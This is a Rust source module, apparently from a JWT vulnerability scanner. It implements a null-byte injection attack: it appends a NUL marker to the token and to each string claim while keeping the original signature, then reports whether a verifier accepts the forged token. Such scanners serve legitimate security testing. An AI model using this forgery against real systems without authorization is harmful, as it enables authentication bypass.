// Null byte payload injection
//
// Targets verifiers that stop reading at a NUL: once after the whole token,
// then inside each string claim with the original signature kept.

use async_trait::async_trait;
use serde_json::Value;
use std::sync::Arc;
use tracing::{debug, warn};

use super::{AttackHelper, JwtAttack, NULL_BYTE_MARKER};
use crate::context::AttackContext;
use crate::error::ProbeError;
use crate::messages::PAYLOAD_PREFIX;
use crate::models::{Confidence, Risk, VulnerabilityType};
use crate::token::TokenModel;

pub struct PayloadAttack {
    helper: Arc<AttackHelper>,
}

/// Tokens whose payload differs from `token` in exactly one string claim,
/// suffixed with the null byte marker, in claim order.
pub fn null_byte_claim_variants(token: &TokenModel) -> Vec<(String, TokenModel)> {
    let Ok(mut claims) = token.payload_json() else {
        return Vec::new();
    };
    let keys: Vec<String> = claims.keys().cloned().collect();
    let mut variants = Vec::new();

    for key in keys {
        let original = match claims.get(&key) {
            Some(Value::String(s)) => s.clone(),
            _ => continue,
        };
        claims.insert(key.clone(), Value::String(format!("{}{}", original, NULL_BYTE_MARKER)));
        let payload = serde_json::to_string(&claims);
        // restore before the next claim whatever happens
        claims.insert(key.clone(), Value::String(original));

        if let Ok(payload) = payload {
            let mut forged = token.clone();
            forged.with_payload(payload);
            variants.push((key, forged));
        }
    }
    variants
}

impl PayloadAttack {
    pub fn new(helper: Arc<AttackHelper>) -> Self {
        Self { helper }
    }

    async fn try_candidate(&self, candidate: &str, ctx: &AttackContext, detail: String) -> Result<bool, ProbeError> {
        if !self.helper.verify_token(candidate, ctx).await? {
            return Ok(false);
        }
        self.helper.raise_alert(
            PAYLOAD_PREFIX,
            VulnerabilityType::NullByte,
            Risk::High,
            Confidence::Medium,
            candidate,
            ctx,
            Some(detail),
        );
        Ok(true)
    }

    async fn attack(&self, ctx: &AttackContext) -> Result<bool, ProbeError> {
        if ctx.is_stopped() {
            return Ok(false);
        }
        let trailing = format!("{}{}", ctx.token.encode(), NULL_BYTE_MARKER);
        if self
            .try_candidate(&trailing, ctx, "Null byte appended after the signature".to_string())
            .await?
        {
            return Ok(true);
        }

        for (claim, forged) in null_byte_claim_variants(&ctx.token) {
            if ctx.is_stopped() {
                return Ok(false);
            }
            debug!("[JWT] null byte in claim {}", claim);
            let candidate = forged.encode();
            if self
                .try_candidate(&candidate, ctx, format!("Null byte appended to claim \"{}\"", claim))
                .await?
            {
                return Ok(true);
            }
        }
        Ok(false)
    }
}

#[async_trait]
impl JwtAttack for PayloadAttack {
    fn name(&self) -> &'static str {
        "payload"
    }

    async fn execute_attack(&self, ctx: &AttackContext) -> bool {
        match self.attack(ctx).await {
            Ok(found) => found,
            Err(e) => {
                warn!("[JWT] null byte payload attack aborted: {}", e);
                false
            }
        }
    }
}
